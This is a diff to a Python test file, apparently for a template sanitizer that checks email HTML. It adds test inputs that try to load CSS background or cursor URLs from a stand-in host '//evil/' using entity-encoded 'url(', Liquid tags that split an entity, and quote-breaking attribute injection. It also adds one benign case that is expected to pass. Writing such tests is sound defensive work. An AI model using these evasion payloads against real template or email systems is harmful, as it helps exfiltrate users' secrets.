@@ -287,6 +287,22 @@ HTML = [
             ("", "{{ 'list-style:u' }}{{ 'rl(//evil/)' }}"),
         )
     ),
+    *(
+        f"<p style='{css}'>{{{{ code }}}}</p>"
+        for css in (
+            "color:{{ order }};background:url&#40;//evil/)",
+            "color:{{ order }};background:u&#x72;l(//evil/)",
+            "color:{{ order }};background:ur&#108;(//evil/)",
+            "color:{{ order }};background:&#92;75 rl&#40;//evil/)",
+            "background:url{{ order }}&lpar;//evil/)",
+            "background:url&{% if order %}lpar;//evil/){% endif %}",
+            "background:url&#4{% if order %}0;//evil/){% endif %}",
+            "{% if order == 'x' %}' title='{% endif %}background:url(//evil/)",
+            "{% if order == 'x' %}' title='{% endif %}background:url&#40;//evil/)",
+            "{% if order == 'x' %}' title='{% endif %}{{ 'background:url(' | append: '//evil/)' }}",
+            "{% if order == 'x' %}'><br style='{% endif %}color:red",
+        )
+    ),
     "<p style='background:url(a);cursor:url(//evil/)'>{{ code }}</p>",
     "<picture>{% if code > '5' %}<source srcset='//evil/'>{% endif %}<img src='//e/1'></picture>",
     "<picture><source srcset='//evil/{{ code }}'><img src='//evil/1'></picture>",
@@ -509,6 +525,13 @@ def test_secret_in_text_is_accepted(flow: str, name: str) -> None:
         (
             "email_html",
             "<p class='{{ order | append: 'x' }}' style='color:{{ order }}'>{{ code }}</p>",
+        ),
+        (
+            "email_html",
+            (
+                "<a href='/o/{{ order }}?a=f(1)&b=2' title='Order {{ order }} of parcel(s)'>x</a> "
+                '<p style="font-family:&quot;A B&quot;;color:{{ order }};margin:0">{{ code }}</p>'
+            ),
         ),
         (
             "email_html",
